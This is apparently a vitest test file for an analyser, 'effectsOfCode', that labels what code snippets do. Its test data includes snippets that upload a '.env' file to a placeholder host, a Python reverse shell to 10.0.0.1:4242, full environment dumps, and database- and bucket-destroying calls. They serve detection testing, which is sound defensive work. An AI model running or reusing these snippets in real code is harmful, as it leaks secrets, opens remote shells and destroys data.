/** What programs send away, and what they show. */
import { describe, expect, it } from 'vitest';
import { effectsOfCode } from './code-effects';

const SENDS_SECRET: readonly (readonly [string, string])[] = [
  ['python', "import urllib.request as u\nu.urlopen('https://x.test', data=open('.env', 'rb').read())"],
  ['python', "import urllib.request as u\nu.urlopen(u.Request('https://x.test', data=open('.env').read()))"],
  ['python', "import requests\ns = requests.Session()\ns.post('https://x.test', data=open('.env').read())"],
  ['javascript', "fetch('https://x.test', { method: 'POST', body: require('fs').readFileSync('.env') })"],
  ['javascript', "client.post('https://x.test', require('fs').readFileSync('.env'))"],
  ['perl', 'open(F, ".env"); LWP::UserAgent->new->post("https://x.test", { a => <F> })'],
];

describe('secrets', () => {
  it.each(SENDS_SECRET)('are sent by %s: %s', (language, code) => {
    expect(effectsOfCode(language, code)).toContain('net.upload x.test source=secret');
  });

  it('are sent by a connection', () => {
    const code =
      "import http.client\nc = http.client.HTTPSConnection('x.test')\nc.request('POST', '/', open('.env').read())";
    expect(effectsOfCode('python', code)).toContain('net.upload ? source=secret');
  });

  it.each([
    ['javascript', "fetch('http://localhost:3000', { method: 'POST', body: '{}' })", 'literal'],
    ['javascript', "fetch(`http://localhost:${process.env.PORT}`, { method: 'POST', body: '{}' })", 'literal'],
    ['javascript', "fetch('https://x.test', { method: 'POST', body: process.env.API_KEY })", 'env'],
    ['python', "import requests\nrequests.post('https://x.test', data=open('README.md').read())", 'file'],
  ])('are not all that is sent by %s: %s', (language, code, source) => {
    expect(effectsOfCode(language, code).find((line) => line.startsWith('net.upload'))).toContain(`source=${source}`);
  });
});

describe('the environment', () => {
  it.each([
    ['python', 'import os\nprint(os.environ)'],
    ['python', 'import os, json\nprint(json.dumps(dict(os.environ)))'],
    ['javascript', 'console.log(process.env)'],
    ['javascript', 'console.log(JSON.stringify(process.env, null, 2))'],
    ['javascript', 'process.env'],
    ['ruby', 'puts ENV.to_h'],
    ['perl', 'print "$_=$ENV{$_}\\n" for keys %ENV'],
    ['php', 'print_r($_ENV);'],
  ])('is shown by %s: %s', (language, code) => expect(effectsOfCode(language, code)).toContain('secret.read env-var'));

  it.each([
    ['python', "import os\nprint(os.environ['HOME'])"],
    ['python', "import os\nprint('CI' in os.environ)"],
    ['javascript', 'console.log(process.env.NODE_ENV)'],
    ['javascript', 'console.log(Object.keys(process.env).length)'],
    ['ruby', 'puts ENV["HOME"]'],
    ['php', 'echo getenv("HOME");'.replace('getenv', 'strtolower')],
  ])('is not, by %s: %s', (language, code) =>
    expect(effectsOfCode(language, code)).not.toContain('secret.read env-var'),
  );
});

describe('connections', () => {
  it('that are given a shell are a remote one', () => {
    const code =
      "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4242))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')";
    expect(effectsOfCode('python', code)).toContain('net.connect 10.0.0.1 purpose=remote-shell');
  });

  it('that only look whether something listens are not', () => {
    const code = "import socket\ns = socket.socket()\nprint(s.connect_ex(('localhost', 5432)))";
    expect(effectsOfCode('python', code)).toContain('net.connect localhost purpose=raw');
  });
});

describe('databases', () => {
  it.each([
    ['python', 'import redis\nredis.Redis().flushall()', 'db.rows.delete'],
    ['python', "import pymongo\npymongo.MongoClient('mongodb://x').drop_database('shop')", 'db.schema.drop'],
    ['python', 'User.objects.all().delete()', 'db.rows.delete'],
    ['python', "import boto3\nboto3.client('s3').delete_bucket(Bucket='x')", 'infra.destroy'],
    ['javascript', 'await prisma.user.deleteMany()', 'db.rows.delete'],
    ['javascript', 'await client.db().dropDatabase()', 'db.schema.drop'],
    ['php', "DB::table('users')->truncate();", 'db.rows.delete'],
  ])('%s: %s', (language, code, kind) => {
    expect(effectsOfCode(language, code).map((line) => line.split(' ')[0])).toContain(kind);
  });

  it('are not meant by every method that is called so', () => {
    expect(effectsOfCode('python', 'cache.delete("x")').join()).not.toContain('db.');
    expect(effectsOfCode('python', 'f = open("a", "w")\nf.truncate()').join()).not.toContain('db.');
  });
});
